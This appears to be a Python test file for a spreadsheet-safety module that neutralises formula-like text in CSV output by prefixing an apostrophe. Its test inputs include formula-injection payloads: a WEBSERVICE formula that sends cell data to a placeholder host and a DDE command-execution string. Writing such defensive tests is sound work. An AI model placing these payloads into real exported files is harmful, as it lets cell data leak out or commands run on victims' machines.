"""Formula-like text is neutralised for spreadsheets; numbers and plain text are not."""

from __future__ import annotations

import csv
import io

from core.spreadsheet_safety import is_formula_like, neutralise, neutralise_row


def test_formula_like_text_gets_an_apostrophe() -> None:
    for text in ("=1+2.txt", '=WEBSERVICE("http://example.invalid/?"&A1)', "+SUM(A1)",
                 "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "=cmd|' /C calc'!A0"):
        assert is_formula_like(text), text
        assert neutralise(text) == "'" + text


def test_numbers_marks_and_plain_text_stay() -> None:
    for value in (12, -3, 1.5, None, "", "重庆市大渡口区科学技术局", "-", "—", "-5", "+3.5",
                  "12%", "a=b", "年报.txt"):
        assert neutralise(value) == value


def test_a_csv_row_reads_back_as_the_neutralised_text() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(neutralise_row(["=1+2.txt", 7, "正常"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+2.txt", "7", "正常"]
